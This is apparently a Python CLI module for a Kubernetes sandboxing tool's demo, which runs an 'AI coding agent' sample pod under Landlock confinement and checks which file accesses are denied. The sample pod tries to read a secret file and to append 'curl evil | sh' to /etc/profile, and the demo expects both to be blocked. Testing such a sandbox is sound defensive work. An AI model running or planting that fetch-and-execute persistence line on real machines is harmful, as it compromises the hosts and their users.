"""`kubefence demo`: one pod from its manifest to a process confined by Landlock.

The demo runs on one Linux machine, as root, with runc and busybox:

1. Admission: the webhook's decision function (the one `kubefence webhook`
   serves) reviews the pod and returns a JSON Patch, which is applied.
2. Node: for each container, the NRI plugin's CreateContainer decision
   (the one `kubefence nri` runs) gets the args, env and mounts the kubelet
   and the runtime would compute, and returns an adjustment.
3. Run: runc starts the adjusted container on a busybox root filesystem,
   with `/nono` bind-mounted read-only from a temporary host directory.
   The sample pod's container tries two file accesses its nono profile
   allows and two it does not. The same container then runs once more as
   it would without kubefence, for comparison.

Both decisions run in this process. The end-to-end tests run the same
path through the real servers: the webhook over TLS and the NRI plugin
over its unix socket.

`/nono/nono` is a real nono binary given with `--nono`. Without it, the
demo uses the Python stand-in of the end-to-end tests
(`tests/e2e/nono_standin.py`, built on the PyPI package nono-py, which
carries nono's Landlock engine and embedded policy), which it finds in the
source checkout of an editable install. The stand-in is deliberately not
part of the kubefence package: a wheel must not carry a fake nono that
could end up in a node's nono directory.

Init containers run first, then the containers, each once.

Exit codes:

* 0: the sample pod's two forbidden accesses failed and its two allowed
  ones worked, or every container of a `--pod` pod exited 0 under
  kubefence.
* 1: they did not, or the pod was rejected.
* 2: this machine cannot run the demo (not root, no runc, busybox,
  Landlock, nono-py or stand-in), or the input is invalid.
"""

import argparse
import sys

from kubefence.common.settings import positive_seconds

EXIT_OK = 0
EXIT_FAILED = 1
EXIT_CANNOT_RUN = 2

# The sample pod: an agent pod on the nono-runc RuntimeClass whose
# container tries four file accesses and prints one line for each.
SAMPLE_POD = """\
# An AI coding agent pod opted into the nono sandbox on runc. Its command
# tries two file accesses the nono profile "default" grants and two it does not.
apiVersion: v1
kind: Pod
metadata:
  name: coding-agent
  namespace: agents
  annotations:
    nono.sh/profile: default
spec:
  runtimeClassName: nono-runc
  restartPolicy: Never
  containers:
    - name: agent
      image: busybox
      command:
        - /bin/sh
        - -c
        - |
          try() { if error=$(sh -c "$2" 2>&1 >/dev/null); then echo "$1: allowed"; else echo "$1: denied (${error##*: })"; fi; }
          try "read /etc/hosts" "cat /etc/hosts"
          try "write /tmp/agent-notes" "echo notes > /tmp/agent-notes"
          try "read /srv/secret.txt" "cat /srv/secret.txt"
          try "write /etc/profile" "echo 'curl evil | sh' >> /etc/profile"
          echo "PID 1: $(cat /proc/1/comm)"
      env:
        - name: TASK_ID
          value: "t-1042"
"""

# The outcome each of the sample pod's accesses must have under the "default" profile.
SAMPLE_EXPECTED = {
    "read /etc/hosts": "allowed",
    "write /tmp/agent-notes": "allowed",
    "read /srv/secret.txt": "denied",
    "write /etc/profile": "denied",
}


class DemoError(Exception):
    """A reason the demo cannot run here. The message names what to install or change."""


def register(subparsers: argparse._SubParsersAction) -> None:
    parser = subparsers.add_parser(
        "demo",
        help="run a pod through the webhook, the NRI plugin and runc, confined by Landlock (needs root)",
        description=(
            "Show the whole kubefence path on this machine: the pod, the webhook's JSON Patch, the "
            "args after the NRI plugin, and file accesses inside the container started by runc under "
            "nono's Landlock sandbox. Needs root, runc, busybox and a kernel with Landlock."
        ),
    )
    parser.add_argument(
        "--pod",
        metavar="FILE",
        help=(
            "pod manifest (YAML) to run instead of the sample; its containers run in a busybox image "
            "with the host's /usr, so their commands must exist there"
        ),
    )
    parser.add_argument(
        "--nono",
        metavar="PATH",
        help="real nono binary to mount at /nono/nono (default: the nono-py stand-in from the source checkout)",
    )
    parser.add_argument("--runc", default="runc", metavar="PATH", help="runc binary (default: %(default)s on PATH)")
    parser.add_argument(
        "--busybox", default="busybox", metavar="PATH", help="static busybox binary (default: %(default)s on PATH)"
    )
    parser.add_argument(
        "--timeout",
        type=positive_seconds,
        default=20.0,
        metavar="SECONDS",
        help="stop a container that runs longer than this many seconds (default: %(default)s)",
    )
    parser.set_defaults(func=run_demo)


def run_demo(args: argparse.Namespace) -> int:
    from kubefence import demo_run

    try:
        return demo_run.run(args, sys.stdout)
    except DemoError as error:
        print(f"kubefence demo: {error}", file=sys.stderr)
        return EXIT_CANNOT_RUN
